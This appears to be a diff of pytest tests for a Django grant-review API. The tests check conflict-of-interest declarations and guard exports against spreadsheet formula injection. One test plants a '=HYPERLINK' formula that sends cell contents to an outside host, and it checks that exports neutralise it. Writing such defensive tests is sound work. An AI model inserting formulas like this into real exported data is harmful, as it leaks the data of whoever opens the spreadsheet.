@@ -220,6 +220,44 @@ def test_a_second_declaration_is_refused(client, reviewer, dossier):
     assert again.status_code == 409 and again.json()["code"] == "already_declared"
 
 
+CHOICE = "Dites si vous avez un conflit d'intérêts avec ce dossier : oui ou non."
+
+
+@pytest.mark.parametrize(("body", "content_type"), [
+    ("{}", "application/json"),
+    ('{"explanation": "Aucun lien."}', "application/json"),
+    ('{"has_conflict": null}', "application/json"),
+    ('{"has_conflict": ""}', "application/json"),
+    ("", "application/x-www-form-urlencoded"),
+    ("explanation=Aucun+lien.", "application/x-www-form-urlencoded"),
+    ("has_conflict=", "application/x-www-form-urlencoded"),
+    ("", "multipart/form-data; boundary=BoUnDaRy"),
+])
+def test_a_declaration_needs_an_explicit_choice(client, reviewer, dossier, body, content_type):
+    """An empty form is not a "no conflict": nothing is recorded, the dossier stays closed."""
+    headers = token_for(reviewer)
+    if content_type.startswith("multipart"):
+        body = "--BoUnDaRy--\r\n"
+    response = client.generic("POST", url("declaration", dossier), body,
+                              content_type=content_type, **headers)
+    assert response.status_code == 400
+    assert response.json()["detail"] == CHOICE
+    assert "has_conflict" in response.json()["errors"]
+    assert not ConflictDeclaration.objects.exists()
+    assert client.get(url("detail", dossier), **headers).status_code == 403
+
+
+@pytest.mark.parametrize(("body", "content_type"), [
+    ("has_conflict=false", "application/x-www-form-urlencoded"),
+    ('{"has_conflict": false}', "application/json"),
+])
+def test_a_said_no_is_recorded(client, reviewer, dossier, body, content_type):
+    response = client.generic("POST", url("declaration", dossier), body,
+                              content_type=content_type, **token_for(reviewer))
+    assert response.status_code == 201
+    assert ConflictDeclaration.objects.get().has_conflict is False
+
+
 # Bad input: a 4xx with {"detail", "code"}, nothing written ----------------------------------
 
 @pytest.mark.parametrize("case", [
@@ -395,6 +433,24 @@ def test_the_exports_have_the_filtered_list(client, reviewer, under_review, call
     values = list(sheet.values)
     assert values[0][0] == "id" and values[1][0] == under_review.pk
     assert Decimal(str(values[1][6])) == Decimal("72.50")
+
+
+def test_the_exports_never_hand_over_a_formula(client, reviewer, under_review, cluster):
+    """Any member renames their territory: the funder's spreadsheet shows text, not a link."""
+    hyperlink = '=HYPERLINK("https://exemple.org/?d="&A1;"Ouvrir")'
+    cluster.territory.name = hyperlink
+    cluster.territory.save()
+    cluster.collective.name = "@SUM(1+1)"
+    cluster.collective.save()
+    headers = token_for(reviewer)
+    response = client.get(reverse("api:instruction-dossier-export-csv"), **headers)
+    row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
+    assert row[2:4] == ["'" + hyperlink, "'@SUM(1+1)"]
+    response = client.get(reverse("api:instruction-dossier-export-xlsx"), **headers)
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = list(sheet.iter_rows())[1]
+    assert [(cell.value, cell.data_type) for cell in cells[2:4]] == [
+        ("'" + hyperlink, "s"), ("'@SUM(1+1)", "s")]
 
 
 def test_the_list_keeps_a_constant_number_of_queries(client, reviewer, funder, collective_a,
